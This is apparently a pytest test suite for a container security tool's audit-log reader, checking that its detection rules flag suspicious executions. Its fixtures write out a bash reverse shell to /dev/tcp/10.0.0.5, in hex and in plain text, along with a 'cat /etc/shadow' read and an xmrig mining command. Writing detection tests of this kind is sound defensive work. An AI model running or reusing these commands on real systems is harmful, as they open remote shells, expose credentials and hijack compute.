"""The audit log reader: records in the format the kernel (auditsc.c) and auditd write them — hex-encoded
and split arguments, PROCTITLE, interleaved events, logs with and without EOE, damaged lines — the follow
mode across rotation, the live merge with the connector, and replay through the built-in rules."""

from __future__ import annotations

import json
import os
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from containerguard.cli.detect import builtin_rule_files, detect
from containerguard.errors import SourceError
from containerguard.rules.compiler import CompiledRules, compile_rules
from containerguard.rules.engine import Engine
from containerguard.rules.loader import load_files
from containerguard.rules.model import Event
from containerguard.sources.events import auditd, process_jsonl
from containerguard.sources.events.auditd import (
    Assembler,
    AuditWatcher,
    LiveEnricher,
    LogFollower,
    Malformed,
    parse_record,
    read_events,
    read_records,
    resolve_audit_log,
    tty_nr,
)
from containerguard.sources.events.base import ReadStats
from containerguard.sources.events.process_live import AUDIT, CONNECTOR, ExecDeduper

CID = "24f915117feeee3964fb8308c081f3b0cd65287a69eb3033683a2218910c76c6"
GS = "\x1d"  # auditd's separator between the kernel's record and its enrichment (log_format = ENRICHED)


def syscall(stamp: str, pid: int, ppid: int, comm: str, exe: str, *, nr: int = 59, arch: str = "c000003e",
            success: str = "yes", uid: int = 0, auid: int = 4294967295, tty: str = "(none)",
            enriched: str | None = 'AUID="unset" UID="root" GID="root" EUID="root" EGID="root"', node: str = "") -> str:
    """A SYSCALL record laid out as auditd 3 writes it; ``comm``/``exe`` as logged (quoted or hex)."""
    head = f"node={node} " if node else ""
    line = (f"{head}type=SYSCALL msg=audit({stamp}): arch={arch} syscall={nr} success={success} exit=0 "
            f"a0=55e1d9a0c9d0 a1=55e1d9a0cb00 a2=55e1d9a0cb38 a3=8 items=2 ppid={ppid} pid={pid} auid={auid} "
            f"uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} "
            f'ses=4294967295 comm={comm} exe={exe} key="cg"')
    return line + (GS + f"ARCH=x86_64 SYSCALL=execve {enriched}" if enriched else "")


def path0(stamp: str, name: str) -> str:
    """PATH item 0, the program as named to execve."""
    return (f"type=PATH msg=audit({stamp}): item=0 name={name} inode=260131 dev=fe:00 mode=0100755 ouid=0 "
            "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")


# sh -c (hex: the script has spaces), then its child cat /etc/shadow; auditd 3 writes no EOE
SHADOW = [
    syscall("1714557601.100:41", 3001, 3000, '"sh"', '"/usr/bin/dash"'),
    'type=EXECVE msg=audit(1714557601.100:41): argc=3 a0="sh" a1="-c" a2=636174202F6574632F736861646F77',
    'type=CWD msg=audit(1714557601.100:41): cwd="/root"',
    path0("1714557601.100:41", '"/bin/sh"'),
    "type=PROCTITLE msg=audit(1714557601.100:41): proctitle=7368002D6300636174202F6574632F736861646F77",
    syscall("1714557601.104:42", 3002, 3001, '"cat"', '"/usr/bin/cat"'),
    'type=EXECVE msg=audit(1714557601.104:42): argc=2 a0="cat" a1="/etc/shadow"',
    'type=CWD msg=audit(1714557601.104:42): cwd="/root"',
    path0("1714557601.104:42", '"/usr/bin/cat"'),
    "type=PROCTITLE msg=audit(1714557601.104:42): proctitle=636174002F6574632F736861646F77",
]
REVERSE = [
    syscall("1714557602.200:43", 3003, 3000, '"bash"', '"/usr/bin/bash"', tty="pts0"),
    "type=EXECVE msg=audit(1714557602.200:43): argc=3 a0=\"bash\" a1=\"-c\" "
    "a2=62617368202D69203E26202F6465762F7463702F31302E302E302E352F3434343420303E2631",
    'type=CWD msg=audit(1714557602.200:43): cwd="/"',
    path0("1714557602.200:43", '"/bin/bash"'),
    "type=PROCTITLE msg=audit(1714557602.200:43): "
    "proctitle=62617368002D630062617368202D69203E26202F6465762F7463702F31302E302E302E352F3434343420303E2631",
]


def write_log(path: Path, lines: list[str]) -> Path:
    path.write_text("".join(line + "\n" for line in lines))
    return path


def records(lines: list[str]) -> tuple[list[dict[str, Any]], ReadStats]:
    stats = ReadStats()
    return list(read_records(lines, stats, "audit.log")), stats


# --- one record ---------------------------------------------------------------------------------------------

def test_parse_a_syscall_record_with_node_and_enrichment() -> None:
    rec = parse_record(syscall("1714557601.100:41", 3001, 3000, '"sh"', '"/usr/bin/dash"', node="web-1"))
    assert rec is not None
    assert (rec.type, rec.node, rec.serial, rec.time_ns) == ("SYSCALL", "web-1", 41, 1714557601_100_000_000)
    assert rec.fields["pid"] == "3001" and rec.fields["comm"] == '"sh"' and rec.fields["key"] == '"cg"'
    assert rec.enriched["SYSCALL"] == "execve" and rec.enriched["EUID"] == '"root"'


@pytest.mark.parametrize("line", [
    "type=USER_LOGIN msg=audit(1714557601.100:41): pid=1 uid=0 auid=0 ses=1 msg='op=login acct=\"root\" res=success'",
    "type=BPRM_FCAPS msg=audit(1714557601.100:41): fver=0 fp=0 fi=0 fe=0 old_pp=000001fffeffffff",
    "type=DAEMON_START msg=audit(1714557601.100:4947): op=start ver=3.0.9 format=enriched res=success",
])
def test_records_of_other_types_are_ignored_not_counted(line: str) -> None:
    assert parse_record(line) is None


@pytest.mark.parametrize(("line", "reason"), [
    ("garbage that is not an audit record", "not an audit record"),
    ("type=SYSC", "not an audit record"),
    ("type=EXECVE msg=audit(1714557601.100:41): argc=2 a0=\"cat\" a1=\"/etc/sha", "unterminated quoted value"),
    ("type=EXECVE msg=audit(1714557601.100:41): argc=2 a0=\"cat\" a1=2F6574632F73686", "neither quoted nor hex"),
    ("type=EXECVE msg=audit(1714557601.100:41): argc=two a0=\"cat\"", "argc"),
])
def test_malformed_lines_raise(line: str, reason: str) -> None:
    with pytest.raises(Malformed, match=reason):
        parse_record(line)


def test_numeric_types_as_the_kernel_prints_them() -> None:
    # dmesg / journald: "audit: type=1309 audit(…): …"; auditd writes unknown numbers as UNKNOWN[N]
    rec = parse_record('[ 12.3] audit: type=1309 audit(1714557601.100:41): argc=1 a0="id"')
    assert rec is not None and rec.type == "EXECVE" and rec.args == {"0": b"id"}
    rec = parse_record("type=UNKNOWN[1327] msg=audit(1714557601.100:41): proctitle=6964")
    assert rec is not None and rec.type == "PROCTITLE"


@pytest.mark.parametrize(("name", "expected"), [
    ("(none)", 0), ("pts0", 34816), ("pts3", 34819), ("pts300", (300 % 256) | ((136 + 1) << 8)),
    ("tty1", 1025), ("ttyS0", 1088), ("hvc0", None),
])
def test_tty_as_proc_tty_nr(name: str, expected: int | None) -> None:
    assert tty_nr(name) == expected


# --- events ---------------------------------------------------------------------------------------------------

def test_exec_event_becomes_the_connectors_record() -> None:
    recs, stats = records(SHADOW)
    assert stats.skipped == 0 and len(recs) == 2
    sh, cat = recs
    assert sh["args"] == ["sh", "-c", "cat /etc/shadow"]  # the hex argument decoded
    assert (sh["comm"], sh["exepath"], sh["cwd"], sh["pid"], sh["ppid"]) == ("sh", "/usr/bin/dash", "/root", 3001, 3000)
    assert (cat["type"], cat["time"], cat["uid"], cat["gid"], cat["loginuid"], cat["tty"]) == \
        ("execve", 1714557601_104_000_000, 0, 0, -1, 0)
    assert (cat["user"], cat["group"]) == ("root", "root") and "loginname" not in cat  # AUID="unset"
    assert [a["comm"] for a in cat["ancestors"]] == ["sh"]  # the parent's exec earlier in the log
    data = process_jsonl.normalize(cat)
    assert data is not None and data["args"] == ["cat", "/etc/shadow"] and data["container"] is None


def test_long_argument_split_over_execve_records() -> None:
    # a 9000-byte argument: a1_len (its hex length), hex chunks a1[0], a1[1] in continuation EXECVE records;
    # the second chunk boundary falls inside "é" (C3 A9): bytes are joined before decoding
    first, second = "41" * 7000, "41" * 1999 + "C3"
    lines = [
        syscall("1714557603.000:50", 3010, 3000, '"true"', '"/usr/bin/true"'),
        f'type=EXECVE msg=audit(1714557603.000:50): argc=3 a0="/bin/true" a1_len=18002 a1[0]={first}',
        f"type=EXECVE msg=audit(1714557603.000:50):  a1[1]={second}",
        "type=EXECVE msg=audit(1714557603.000:50):  a1[2]=A9 a2=780A79",
        "type=PROCTITLE msg=audit(1714557603.000:50): proctitle=2F62696E2F74727565004141414141",
    ]
    (rec,), stats = records(lines)
    assert stats.skipped == 0
    assert rec["args"] == ["/bin/true", "A" * 8999 + "é", "x\ny"]


def test_proctitle_stands_in_when_execve_records_are_lost() -> None:
    lines = [syscall("1714557603.000:51", 3011, 3000, '"cat"', '"/usr/bin/cat"'),
             "type=PROCTITLE msg=audit(1714557603.000:51): proctitle=636174002F6574632F736861646F77"]
    (rec,), _ = records(lines)
    assert rec["args"] == ["cat", "/etc/shadow"]


def test_interleaved_events_keep_their_own_records() -> None:
    # two CPUs' events written in between each other, each ended by EOE (older auditd and the raw stream)
    a, b = "1714557604.000:60", "1714557604.000:61"
    lines = [
        syscall(a, 4001, 4000, '"id"', '"/usr/bin/id"'),
        syscall(b, 4002, 4000, '"ls"', '"/usr/bin/ls"'),
        f'type=EXECVE msg=audit({b}): argc=2 a0="ls" a1="-la"',
        f'type=EXECVE msg=audit({a}): argc=2 a0="id" a1="-u"',
        f'type=CWD msg=audit({a}): cwd="/a"',
        f"type=CWD msg=audit({b}): cwd=2F746D702F6D7920646972",
        f"type=EOE msg=audit({b}): ",
        f"type=EOE msg=audit({a}): ",
    ]
    recs, stats = records(lines)
    assert stats.skipped == 0
    assert [(r["pid"], r["args"], r["cwd"]) for r in recs] == \
        [(4002, ["ls", "-la"], "/tmp/my dir"), (4001, ["id", "-u"], "/a")]


def test_completion_eoe_proctitle_bounds_and_end_of_file() -> None:
    def rec(line: str) -> auditd.Record:
        parsed = parse_record(line)
        assert parsed is not None
        return parsed

    asm = Assembler(time_bound_ns=2_000_000_000, serial_bound=10)
    assert asm.add(rec(syscall("100.000:1", 1, 0, '"a"', '"/a"'))) == []
    assert [p.serial for p in asm.add(rec("type=EOE msg=audit(100.000:1): "))] == [1]  # EOE
    assert asm.add(rec(syscall("100.000:2", 2, 0, '"b"', '"/b"'))) == []
    assert [p.serial for p in asm.add(rec("type=PROCTITLE msg=audit(100.000:2): proctitle=62"))] == [2]
    # no EOE, no PROCTITLE: a record of an event more than the serial bound later completes it …
    asm.add(rec(syscall("100.000:3", 3, 0, '"c"', '"/c"')))
    assert asm.add(rec('type=CWD msg=audit(100.001:9): cwd="/"')) == []  # within the bound: still open
    assert [p.serial for p in asm.add(rec('type=CWD msg=audit(100.002:14): cwd="/"'))] == [3]
    # … and so does one more than 2 s later, whatever its serial (a restart numbers from 1 again)
    assert sorted(p.serial for p in asm.add(rec(syscall("200.000:20", 4, 0, '"d"', '"/d"')))) == [9, 14]
    assert asm.add(rec('type=CWD msg=audit(201.900:2): cwd="/"')) == []
    assert [p.serial for p in asm.add(rec('type=CWD msg=audit(202.500:1): cwd="/"'))] == [20]
    # a straggler of a completed event is dropped, not made a new event
    assert asm.add(rec('type=CWD msg=audit(200.000:20): cwd="/"')) == [] and asm.late == 1
    assert [p.serial for p in asm.flush()] == [2, 1]  # the end of a replayed file


def test_idle_completes_in_follow_mode_and_pending_is_bounded() -> None:
    asm = Assembler(max_pending=2)
    line = parse_record(syscall("100.000:1", 1, 0, '"a"', '"/a"'))
    assert line is not None
    asm.add(line, now=10.0)
    assert asm.idle(10.2, 0.3) == [] and [p.serial for p in asm.idle(10.4, 0.3)] == [1]
    for serial in (5, 6):
        r = parse_record(f'type=CWD msg=audit(100.000:{serial}): cwd="/"')
        assert r is not None and asm.add(r) == []
    r = parse_record('type=CWD msg=audit(100.000:7): cwd="/"')
    assert r is not None and [p.serial for p in asm.add(r)] == [5]  # the oldest makes room
    assert asm.pending == 2


def test_damaged_lines_are_counted_and_skipped() -> None:
    lines = [
        "\x00\x00\x00garbage",
        *SHADOW[:6],
        'type=EXECVE msg=audit(1714557601.104:42): argc=2 a0="cat" a1="/etc/sha',  # cut by a crash
        *SHADOW[7:],
        "type=SYSCALL msg=audit(1714557609",
        "x" * (auditd.MAX_LINE + 1),
        "",
    ]
    recs, stats = records(lines)
    assert stats.skipped == 4
    assert any("unterminated" in r for r in stats.reasons)
    # the cut EXECVE record is lost; the exec still comes out, its argv from PROCTITLE
    assert [r["args"] for r in recs] == [["sh", "-c", "cat /etc/shadow"], ["cat", "/etc/shadow"]]


def test_an_exec_without_its_syscall_record_is_counted() -> None:
    recs, stats = records(['type=EXECVE msg=audit(1714557601.104:42): argc=1 a0="cat"'])
    assert recs == [] and stats.skipped == 1 and "without its SYSCALL" in stats.reasons[0]


def test_failed_and_other_syscalls_are_not_execs() -> None:
    lines = [
        syscall("1714557605.000:70", 5001, 5000, '"sh"', '"/usr/bin/dash"', success="no"),
        'type=CWD msg=audit(1714557605.000:70): cwd="/"',
        path0("1714557605.000:70", '"/nonexistent"'),
        "type=PROCTITLE msg=audit(1714557605.000:70): proctitle=7368",
        # openat(2) of /etc/shadow by a watch rule: a file event, not an exec
        syscall("1714557605.000:71", 5002, 5000, '"cat"', '"/usr/bin/cat"', nr=257, enriched=None),
        path0("1714557605.000:71", '"/etc/shadow"'),
        "type=PROCTITLE msg=audit(1714557605.000:71): proctitle=636174",
    ]
    recs, stats = records(lines)
    assert recs == [] and stats.skipped == 0


@pytest.mark.parametrize(("arch", "nr", "with_execve", "name"), [
    ("c00000b7", 221, False, "execve"),  # aarch64
    ("c00000b7", 281, False, "execveat"),
    ("c000003e", 322, False, "execveat"),
    ("deadbeef", 999, True, "execve"),  # an ABI we do not know: the EXECVE record says it is an exec
])
def test_exec_syscalls_by_architecture(arch: str, nr: int, with_execve: bool, name: str) -> None:
    stamp = "1714557606.000:80"
    lines = [syscall(stamp, 6001, 6000, '"id"', '"/usr/bin/id"', arch=arch, nr=nr, enriched=None)]
    if with_execve:
        lines.append(f'type=EXECVE msg=audit({stamp}): argc=1 a0="id"')
    lines.append(f"type=PROCTITLE msg=audit({stamp}): proctitle=6964")
    (rec,), _ = records(lines)
    assert rec["type"] == name and rec["args"] == ["id"]


def test_hex_comm_exe_and_relative_path() -> None:
    # a program named with a space: comm and exe are hex too; no exe= falls back to PATH item 0 + CWD
    stamp = "1714557607.000:90"
    line = syscall(stamp, 7001, 7000, "6D79207072", "(null)")
    lines = [line, f'type=EXECVE msg=audit({stamp}): argc=1 a0=2E2F6D792070726F67', f'type=CWD msg=audit({stamp}): '
             'cwd="/opt/x"', path0(stamp, "2E2F6D792070726F67")]
    (rec,), _ = records(lines)
    assert (rec["comm"], rec["exepath"], rec["args"]) == ("my pr", "/opt/x/my prog", ["./my prog"])


# --- replay through the rules ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def builtin() -> CompiledRules:
    return compile_rules(load_files(builtin_rule_files()))


def _alerts(compiled: CompiledRules, events: list[Event]) -> list[tuple[str, str]]:
    # the output without its leading time: the connector stamps an exec a moment after the kernel does
    return sorted((a.rule, a.output.split(": ", 1)[1]) for a in Engine(compiled, rule_matching="all").run(iter(events)))


def test_replay_raises_the_alerts_the_connector_raises(builtin: CompiledRules) -> None:
    miner_stamp = "1714557608.000:95"
    miner = [
        syscall(miner_stamp, 3004, 3001, '"xmrig"', '"/tmp/xmrig"', uid=1000, enriched='EUID="alice" EGID="alice"'),
        f'type=EXECVE msg=audit({miner_stamp}): argc=3 a0="./xmrig" a1="-o" a2="stratum+tcp://pool.example.net:3333"',
        f'type=CWD msg=audit({miner_stamp}): cwd="/tmp"',
    ]
    stats = ReadStats()
    from_audit = list(read_events([*SHADOW, *REVERSE, *miner], stats, "audit.log"))
    assert stats.events == 4 and stats.skipped == 0
    # what the connector reports for the same four execs (its /proc snapshot, process_jsonl format)
    host = {"uid": 0, "gid": 0, "user": "root", "group": "root", "loginuid": -1, "tty": 0}
    sh = {"pid": 3001, "ppid": 3000, "comm": "sh", "exepath": "/usr/bin/dash", "args": ["sh", "-c", "cat /etc/shadow"],
          "cwd": "/root", **host, "ancestors": []}
    brief = {"pid": 3001, "comm": "sh", "exepath": "/usr/bin/dash", "args": ["sh", "-c", "cat /etc/shadow"]}
    proc_recs = [
        sh,
        {"pid": 3002, "ppid": 3001, "comm": "cat", "exepath": "/usr/bin/cat", "args": ["cat", "/etc/shadow"],
         "cwd": "/root", **host, "ancestors": [brief]},
        {"pid": 3003, "ppid": 3000, "comm": "bash", "exepath": "/usr/bin/bash",
         "args": ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"], "cwd": "/", **host, "tty": 34816,
         "ancestors": []},
        {"pid": 3004, "ppid": 3001, "comm": "xmrig", "exepath": "/tmp/xmrig",
         "args": ["./xmrig", "-o", "stratum+tcp://pool.example.net:3333"], "cwd": "/tmp", "uid": 1000, "gid": 1000,
         "user": "alice", "group": "alice", "loginuid": -1, "tty": 0, "ancestors": [brief]},
    ]
    from_proc = [ev for ev in map(process_jsonl.event, proc_recs) if ev is not None]
    audit_alerts = _alerts(builtin, from_audit)
    assert audit_alerts == _alerts(builtin, from_proc)
    assert Counter(rule for rule, _ in audit_alerts) == Counter({
        "Shadow file or kubeconfig read": 2,  # sh -c 'cat /etc/shadow' and the cat itself
        "Reverse shell": 1, "Digital currency mining": 1})
    assert any("command=cat /etc/shadow parent=sh user=root" in out for _, out in audit_alerts)
    assert any("Crypto miner" in out and "user=alice" in out for _, out in audit_alerts)


def test_detect_cli_replays_an_audit_log(tmp_path: Path) -> None:
    log = write_log(tmp_path / "audit.log", [*SHADOW, *REVERSE, "not a record"])
    app = typer.Typer()
    app.command()(detect)
    result = CliRunner().invoke(app, ["--builtin", "--source", "auditd", str(log), "-f", "json"])
    assert result.exit_code == 0, result.output
    alerts = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert sorted(a["rule"] for a in alerts) == ["Reverse shell", "Shadow file or kubeconfig read",
                                                "Shadow file or kubeconfig read"]
    shell = next(a for a in alerts if a["rule"] == "Reverse shell")
    assert shell["source"] == "syscall"  # Falco's name for the source process rules belong to
    assert shell["time"] == "2024-05-01T10:00:02.200000000Z" and shell["tactic"] == "Execution"
    assert "3 events, 1 skipped" in result.stderr


# --- following a live log -------------------------------------------------------------------------------------

def test_follower_reads_appends_holds_partial_lines_and_survives_rotation(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    path.write_bytes(b"old line\n")
    follower = LogFollower(str(path))  # from the end: what was there before is not news
    assert follower.read_lines() == []
    with open(path, "ab") as f:
        f.write(b"one\ntw")
    assert follower.read_lines() == [b"one"]
    with open(path, "ab") as f:
        f.write(b"o\n")
    assert follower.read_lines() == [b"two"]
    # auditd rotates: audit.log -> audit.log.1 (a last line still lands in it), then a new audit.log
    with open(path, "ab") as f:
        f.write(b"three\n")
    path.rename(tmp_path / "audit.log.1")
    with open(tmp_path / "audit.log.1", "ab") as f:
        f.write(b"four\n")
    assert follower.read_lines() == [b"three", b"four"]
    assert follower.read_lines() == []  # no new file yet: keep the old one
    path.write_bytes(b"five\n")
    assert follower.read_lines() == [b"five"] and follower.rotations == 1
    # copytruncate: the same file cut to nothing, then written again from the start
    path.write_bytes(b"")
    with open(path, "ab") as f:
        f.write(b"six\n")
    assert follower.read_lines() == [b"six"] and follower.rotations == 2
    follower.close()


def test_audit_watcher_follows_a_rotated_log(tmp_path: Path) -> None:
    path = write_log(tmp_path / "audit.log", SHADOW)  # already there at start: not reported
    seen: list[Event] = []
    got = threading.Condition()

    def on_event(ev: Event) -> None:
        with got:
            seen.append(ev)
            got.notify_all()

    def wait_for(n: int) -> None:
        deadline = time.monotonic() + 5
        with got:
            while len(seen) < n and time.monotonic() < deadline:
                got.wait(0.1)

    watcher = AuditWatcher(on_event, str(path), enrich=False, poll_interval=0.02, idle=0.2)
    with watcher:
        with open(path, "a") as f:
            f.write("".join(line + "\n" for line in REVERSE))
        wait_for(1)
        path.rename(tmp_path / "audit.log.1")
        # a lone exec without PROCTITLE or EOE: completed once idle
        write_log(path, [syscall("1714557610.000:99", 3005, 3000, '"id"', '"/usr/bin/id"'),
                         'type=EXECVE msg=audit(1714557610.000:99): argc=1 a0="id"'])
        wait_for(2)
    assert [ev.data["comm"] for ev in seen] == ["bash", "id"]
    assert watcher.rotations == 1 and watcher.stats.events == 2 and watcher.read_stats.skipped == 0


def test_audit_watcher_refuses_a_missing_log(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="does not exist"):
        AuditWatcher(lambda _ev: None, str(tmp_path / "nope.log"), enrich=False).start()


def test_resolve_audit_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditd, "DEFAULT_AUDIT_LOG", str(tmp_path / "audit.log"))
    assert resolve_audit_log("auto") is None  # not there: the connector alone
    write_log(tmp_path / "audit.log", [])
    assert resolve_audit_log("auto") == str(tmp_path / "audit.log")
    assert resolve_audit_log("off") is None and resolve_audit_log("") is None
    with pytest.raises(SourceError, match="not a readable file"):
        resolve_audit_log(str(tmp_path / "missing.log"))


# --- live enrichment and the merge with the connector ----------------------------------------------------------

def fake_proc(root: Path, pid: int, ppid: int, comm: str, argv: list[str], exe: str, cgroup: str = "0::/\n") -> None:
    d = root / str(pid)
    (d / "fd").mkdir(parents=True)
    (d / "cmdline").write_bytes(b"".join(a.encode() + b"\0" for a in argv))
    (d / "comm").write_text(comm + "\n")
    (d / "status").write_text(f"Name:\t{comm}\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\nNSpid:\t{pid}\t7\n")
    (d / "stat").write_text(f"{pid} ({comm}) S {ppid} {pid} {ppid} 0 0 0 0\n")
    (d / "cgroup").write_text(cgroup)
    (d / "exe").symlink_to(exe)
    (d / "root" / "etc").mkdir(parents=True)
    (d / "root" / "etc" / "passwd").write_text("root:x:0:0:root:/root:/bin/sh\nwww:x:33:33::/var/www:/bin/sh\n")


def test_live_enricher_maps_a_gone_process_through_its_parent(tmp_path: Path) -> None:
    fake_proc(tmp_path, 900, 1, "sh", ["sh"], "/usr/bin/dash", f"0::/docker/{CID}\n")
    asked: list[str] = []

    def containers(cid: str) -> dict[str, object]:
        asked.append(cid)
        return {"id": cid, "name": "web", "image": "nginx:1.25", "privileged": False, "labels": {}}

    (rec,), _ = records(SHADOW[5:])  # cat, pid 3002, already gone; its parent is 900 here
    rec["ppid"], rec["uid"] = 900, 33
    rec.pop("user")
    LiveEnricher(containers, str(tmp_path))(rec)
    assert asked == [CID] and rec["container"]["name"] == "web"
    assert [a["comm"] for a in rec["ancestors"]] == ["sh"]
    assert rec["user"] == "www"  # from the container's own /etc/passwd
    data = process_jsonl.normalize(rec)
    assert data is not None and data["container"]["id"] == CID[:12]


def test_live_enricher_reads_a_running_process(tmp_path: Path) -> None:
    fake_proc(tmp_path, 3002, 900, "cat", ["cat", "/etc/shadow"], "/usr/bin/cat", f"0::/docker/{CID}\n")
    fake_proc(tmp_path, 900, 1, "sh", ["sh"], "/usr/bin/dash", f"0::/docker/{CID}\n")
    (tmp_path / "3002" / "fd" / "0").symlink_to("pipe:[1]")
    (rec,), _ = records(SHADOW[5:])
    LiveEnricher(lambda _cid: None, str(tmp_path))(rec)
    assert rec["container"] == {"id": CID} and rec["stdin_type"] == "pipe" and rec["vpid"] == 7
    assert [a["pid"] for a in rec["ancestors"]] == [900]


def _ev(pid: int, comm: str, exepath: str | None, t: float, scan: bool = False) -> Event:
    ev = process_jsonl.event({"pid": pid, "comm": comm, "exepath": exepath, "time": int(t * 1e9)})
    assert ev is not None
    if scan:
        ev.cache["scan"] = True
    return ev


def test_dedup_passes_one_exec_once_whichever_reports_first() -> None:
    out: list[Event] = []
    dd = ExecDeduper(out.append, window=5.0)
    t = 1714557601.0
    assert dd.offer(_ev(10, "cat", "/usr/bin/cat", t), CONNECTOR)
    assert not dd.offer(_ev(10, "cat", "/usr/bin/cat", t + 0.8), AUDIT)  # the same exec, later from auditd
    assert dd.offer(_ev(11, "cat", None, t), AUDIT)  # auditd first (the connector lost /proc) …
    assert not dd.offer(_ev(11, "cat", None, t + 0.01), CONNECTOR)  # … a zombie: no path, same name
    assert dd.offer(_ev(12, "sh", "/usr/bin/dash", t), CONNECTOR)
    assert dd.offer(_ev(12, "cat", "/usr/bin/cat", t + 0.1), AUDIT)  # the same pid ran another program
    assert dd.offer(_ev(13, "id", "/usr/bin/id", t), CONNECTOR)
    assert dd.offer(_ev(13, "id", "/usr/bin/id", t + 6), AUDIT)  # outside the window: another exec
    assert dd.offer(_ev(14, "id", "/usr/bin/id", t), AUDIT)
    assert dd.offer(_ev(14, "id", "/usr/bin/id", t + 0.5), AUDIT)  # one witness twice: two execs
    assert dd.offer(_ev(15, "sleep", "/usr/bin/sleep", t, scan=True), CONNECTOR)
    assert dd.offer(_ev(15, "sleep", "/usr/bin/sleep", t), AUDIT)  # a start-up scan pairs with nothing
    assert dd.duplicates == 2 and len(out) == 10
    # pairing is one to one: a third report of pid 10 is new
    assert dd.offer(_ev(10, "cat", "/usr/bin/cat", t + 1), AUDIT)


def test_dedup_forgets_old_reports() -> None:
    dd = ExecDeduper(lambda _ev: None, window=0.01)
    for pid in range(100):
        dd.offer(_ev(pid, "x", "/x", 1.0), CONNECTOR)
    time.sleep(0.03)
    dd.offer(_ev(1000, "x", "/x", 1.0), CONNECTOR)
    assert list(dd._open) == [1000]


@pytest.mark.skipif(os.geteuid() != 0, reason="the process-events connector needs root")
def test_live_source_reports_an_exec_seen_by_both_witnesses_once(tmp_path: Path) -> None:
    """The connector (real) and an audit log (written here as auditd would) report the same exec: once out."""
    import subprocess

    from containerguard.sources.events.process_live import LiveProcessSource

    log = write_log(tmp_path / "audit.log", [])
    seen: list[Event] = []
    lock = threading.Lock()

    def on_event(ev: Event) -> None:
        with lock:
            seen.append(ev)

    marker = f"cg-dedup-{os.getpid()}"
    with LiveProcessSource(on_event, lambda _cid: None, audit_log=str(log), scan_existing=False) as source:
        assert source.stats.mode == "netlink+auditd"
        proc = subprocess.run(["sh", "-c", f"sleep 0.05; : {marker}"], check=True)
        assert proc.returncode == 0

        def mine() -> list[Event]:
            with lock:
                return [e for e in seen if marker in " ".join(e.data["args"])]

        deadline = time.monotonic() + 3
        while not mine() and time.monotonic() < deadline:
            time.sleep(0.01)
        (hit,) = mine()
        stamp = f"{hit.data['time_ns'] // 10**9}.{hit.data['time_ns'] // 10**6 % 1000:03d}:7"
        script = f"sleep 0.05; : {marker}".encode().hex().upper()
        lines = [syscall(stamp, hit.data["pid"], hit.data["ppid"], '"sh"', '"/usr/bin/dash"'),
                 f'type=EXECVE msg=audit({stamp}): argc=3 a0="sh" a1="-c" a2={script}',
                 f"type=PROCTITLE msg=audit({stamp}): proctitle=7368"]
        with open(log, "a") as f:  # as auditd appends it, a little after the connector's report
            f.write("".join(line + "\n" for line in lines))
        deadline = time.monotonic() + 2
        while source.audit is not None and source.audit.stats.events < 1 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert source.audit is not None and source.audit.stats.events == 1
    assert len(mine()) == 1 and source.dedup.duplicates == 1
